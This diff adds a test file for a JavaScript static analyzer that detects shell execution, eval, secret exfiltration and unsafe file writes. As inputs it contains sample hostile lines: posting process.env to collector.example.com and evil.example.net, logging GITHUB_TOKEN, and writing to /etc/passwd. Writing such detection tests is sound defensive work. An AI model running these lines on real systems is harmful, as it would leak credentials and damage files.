@@ -0,0 +1,62 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+
+// Trusted hosts are read when the module loads
+process.env.TRUSTED_HOSTS = 'api.github.com,*.stripe.com';
+
+const { analyzeCodeStatically } = await import('../build/static-analyzer.js');
+
+const rulesOf = code => analyzeCodeStatically(code).findings.map(finding => `${finding.rule}:${finding.severity}`);
+
+test('harmless code has no findings', () => {
+  const result = analyzeCodeStatically("const total = [1, 2, 3].reduce((a, b) => a + b, 0);\nconsole.log(total);");
+  assert.equal(result.threat_level, 'none');
+  assert.deepEqual(result.findings, []);
+  assert.deepEqual(result.errors, []);
+  assert.equal(result.malicious_code_detected, false);
+});
+
+test('shell commands are found through require, destructuring and imports', () => {
+  assert.ok(rulesOf("const cp = require('child_process');\ncp.execSync('ls');").includes('child_process:high'));
+  assert.ok(rulesOf("const { exec: run } = require('node:child_process');\nrun('ls');").includes('child_process:high'));
+  assert.ok(rulesOf("import { spawn } from 'child_process';\nspawn('ls');").includes('child_process:high'));
+  assert.ok(rulesOf("const cp = require('child_process');\ncp.exec('git push origin main');").includes('git_operation:high'));
+});
+
+test('dynamic code is reported', () => {
+  assert.ok(rulesOf("eval('1 + 1');").includes('dynamic_code:high'));
+  assert.ok(rulesOf("new Function('return 1')();").includes('dynamic_code:high'));
+  assert.ok(rulesOf("const vm = require('vm');\nvm.runInNewContext('1');").includes('dynamic_code:high'));
+});
+
+test('environment exfiltration to an untrusted host is critical', () => {
+  const result = analyzeCodeStatically("await fetch('https://collector.example.com/x', { method: 'POST', body: JSON.stringify(process.env) });");
+  assert.equal(result.threat_level, 'critical');
+  assert.equal(result.malicious_code_detected, true);
+  assert.ok(rulesOf("console.log(process.env.GITHUB_TOKEN);").includes('env_exfiltration:high'));
+});
+
+test('network calls are judged by host', () => {
+  assert.deepEqual(rulesOf("await fetch('https://api.github.com/user');"), []);
+  assert.deepEqual(rulesOf("await fetch('https://payments.stripe.com/v1');"), []);
+  assert.deepEqual(rulesOf("await fetch('https://example.org/data');"), ['network_call:medium']);
+  assert.deepEqual(rulesOf("await fetch(url);"), ['network_call:low']);
+  assert.ok(rulesOf("const axios = require('axios');\nawait axios.post('https://evil.example.net', process.env);").includes('env_exfiltration:critical'));
+});
+
+test('file writes must stay inside a temp folder', () => {
+  assert.deepEqual(rulesOf("const fs = require('fs');\nfs.writeFileSync('temp-output/result.json', '{}');"), []);
+  assert.deepEqual(rulesOf("const fs = require('fs');\nfs.writeFileSync('/etc/passwd', 'x');"), ['filesystem_write:high']);
+  assert.deepEqual(rulesOf("const fs = require('fs');\nfs.writeFileSync(target, 'x');"), ['filesystem_write:medium']);
+  assert.deepEqual(rulesOf("const fs = require('fs');\nfs.renameSync('temp/a', '../b');"), ['filesystem_write:high']);
+});
+
+test('findings carry line numbers and syntax errors are reported', () => {
+  const [finding] = analyzeCodeStatically("const a = 1;\n\neval(a);").findings;
+  assert.equal(finding.line, 3);
+  assert.equal(finding.snippet, 'eval(a);');
+
+  const broken = analyzeCodeStatically("const value = 'unterminated;\nconsole.log(value);");
+  assert.ok(broken.errors.length > 0);
+  assert.match(broken.errors[0], /^Line 1:/);
+});